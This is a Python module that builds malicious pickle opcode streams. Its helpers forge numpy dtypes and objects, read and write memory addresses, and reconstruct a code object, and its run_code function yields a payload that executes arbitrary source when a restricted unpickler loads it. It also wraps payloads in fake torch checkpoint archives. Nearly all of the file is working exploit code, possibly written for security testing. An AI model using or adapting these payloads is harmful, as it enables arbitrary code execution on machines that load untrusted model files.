"""
Pickles that attack. Of a reader that gives out numpy's own dtype, ``run_code`` gets a function made
and called.

Each function returns the opcodes that push one value: an attack is written as an expression.
"""

import io
import pickle
import struct
import zipfile
from ctypes import string_at
from types import FunctionType
from typing import Any

NONE, TRUE, FALSE, EMPTY = b"N", b"\x88", b"\x89", b")"


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def data(value: Any) -> bytes:
    """Plain data, without the frame of a pickle of its own and without memo."""
    if isinstance(value, tuple):
        return b"(" + b"".join(map(data, value)) + b"t"
    if isinstance(value, (bytes, str)):
        content, code = (value, b"B") if isinstance(value, bytes) else (value.encode(), b"X")
        return code + struct.pack("<I", len(content)) + content
    return pickle.dumps(value, 2)[2:-1]


def row(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + row(*arguments) + b"R"


def build(value: bytes, state: bytes) -> bytes:
    return value + state + b"b"


def put(value: bytes, slot: int) -> bytes:
    return value + b"q" + bytes([slot])


def get(slot: int) -> bytes:
    return b"h" + bytes([slot])


def dtype(kind: str, flags: int, order: str = "|") -> bytes:
    """A copy of a dtype whose state claims ``flags``."""
    fresh = call(name("numpy", "dtype"), data(kind), FALSE, TRUE)
    return build(fresh, data((3, order, None, None, None, -1, -1, flags)))


def array(kind: bytes, shape: tuple, content: bytes, core: str = "numpy._core") -> bytes:
    blank = call(
        name(f"{core}.multiarray", "_reconstruct"), name("numpy", "ndarray"), data((0,)), data(b"b")
    )
    return build(blank, row(data(1), data(shape), kind, FALSE, content))


def scalar(kind: bytes, content: bytes, core: str = "numpy._core") -> bytes:
    return call(name(f"{core}.multiarray", "scalar"), kind, content)


def forged_object(address: bytes, core: str = "numpy._core") -> bytes:
    """The object at any address: by an object dtype that claims to hold none (no LIST_PICKLE)."""
    return scalar(dtype("O8", 0x30), address, core)


def address_of(value: bytes) -> bytes:
    """As 8 bytes: those of an array that holds the object."""
    return call(name("builtins", "bytes"), array(dtype("O8", 0x3F), (1,), b"(" + value + b"l"))


def plus(address: bytes, offset: int) -> bytes:
    """a + b is complex(a, complex(0, -b)), whose real part an array casts to an integer."""
    number = scalar(dtype("u8", 0, "<"), address)
    total = call(
        name("builtins", "complex"),
        number,
        call(name("builtins", "complex"), data(0), data(-offset)),
    )
    parts = array(dtype("c16", 0, "<"), (1,), data(bytes(16))) + EMPTY + total + b"s"
    real = call(name("numpy", "ndarray"), data((1,)), dtype("f8", 0, "<"), parts)
    integer = array(dtype("u8", 0, "<"), (1,), data(bytes(8))) + EMPTY + real + b"s"
    return call(name("builtins", "bytes"), integer)


def memory_at(address: bytes) -> bytes:
    """
    8 bytes: of a bytearray that is made up (references, type, size, allocated, bytes, start,
    exports).
    """
    words = array(dtype("u8", 0, "<"), (7,), data(struct.pack("<7q", 1 << 30, 0, 8, 9, 0, 0, 0)))
    kind = address_of(name("builtins", "bytearray"))
    for index, word in ((1, kind), (4, address), (5, address)):
        words += data(index) + scalar(dtype("u8", 0, "<"), word) + b"s"
    made_up = put(call(name("builtins", "bytes"), words), 200)
    return (
        made_up
        + b"0"
        + call(name("builtins", "bytes"), forged_object(plus(address_of(get(200)), 32)))
    )


def kind_of(value: bytes) -> bytes:
    return forged_object(memory_at(plus(address_of(value), 8)))


def run_code(source: str) -> bytes:
    """
    Calls a new function made of ``source``: FunctionType is the type of a function that the reader
    gives out, CodeType that of this function's code.
    """
    function = put(name("_codecs", "encode"), 201)
    content = string_at(id(run_code), FunctionType.__basicsize__)
    offset = content.index(struct.pack("<q", id(run_code.__code__)))
    code = put(forged_object(memory_at(plus(address_of(get(201)), offset))), 202)
    made = call(kind_of(get(202)), *map(data, code_arguments(source)))
    return function + b"0" + code + b"0" + call(call(kind_of(get(201)), made, b"}"))


def code_arguments(source: str) -> tuple:
    """Those of CodeType for a function with the body ``source``."""
    code = compile(f"def attack(): {source}", "attack", "exec").co_consts[0]
    fields = (
        "argcount posonlyargcount kwonlyargcount nlocals stacksize flags code consts names "
        "varnames filename name"
    )
    fields += (
        " qualname firstlineno linetable exceptiontable"
        if hasattr(code, "co_qualname")
        else " firstlineno lnotab"
    )
    return tuple(getattr(code, f"co_{field}") for field in fields.split())


def archive(content: bytes, compression: int = zipfile.ZIP_STORED, **records: bytes) -> io.BytesIO:
    """A file of torch with opcodes of ours; "data_0" stands for "data/0"."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as target:
        target.writestr("x/data.pkl", b"\x80\x02" + content + b".")
        for record, value in records.items():
            target.writestr(f"x/{record.replace('_', '/')}", value)
    return file


def storage(length: int = 4, key: str = "0", kind: str = "FloatStorage") -> bytes:
    pid = (name("torch", kind), data(key), data("cpu"), data(length))
    return b"(" + data("storage") + b"".join(pid) + b"tQ"


def tensor(size, stride, offset=0, source=None) -> bytes:
    arguments = (data(offset), data(size), data(stride), data(False), b"}")
    return call(name("torch._utils", "_rebuild_tensor_v2"), source or storage(), *arguments)
